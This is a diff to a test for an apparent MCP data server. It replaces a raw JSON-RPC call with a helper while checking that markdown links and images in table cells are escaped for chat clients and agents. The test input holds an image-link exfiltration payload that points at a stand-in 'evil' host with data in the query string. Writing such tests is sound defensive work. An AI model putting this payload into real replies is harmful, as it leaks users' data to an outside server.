@@ -72,18 +72,8 @@ it('escapes links and images in cells for chat clients and agents', async () => 
       ['query', { q: 'revenue where segment is "![x](http://evil/?q=Consumer) <img src=y>"' }],
       ['describe_lens', {}],
     ] as const) {
-      const reply = await evil.send({
-        ...{ method: 'POST', url: '/mcp' },
-        headers: { 'content-type': 'application/json', host: '127.0.0.1:8080' },
-        payload: {
-          jsonrpc: '2.0',
-          id: 1,
-          method: 'tools/call',
-          params: { name, arguments: { lens: 'shop', ...replyText } },
-        },
-      });
-      const { content, structuredContent } = JSON.parse(/data: (.*)/.exec(reply.text)?.[1] ?? reply.text).result;
-      expect(content[0].text).not.toMatch(/\]\(|\]\[|\]:|!\[|<img/);
+      const { content, structuredContent } = await evil.callTool(name, { lens: 'shop', ...replyText });
+      expect(content[0]!.text).not.toMatch(/\]\(|\]\[|\]:|!\[|<img/);
       // Structured content keeps the original cell for programs.
       if (structuredContent.data) expect(JSON.stringify(structuredContent.data)).toContain('![x](http://evil/');
     }
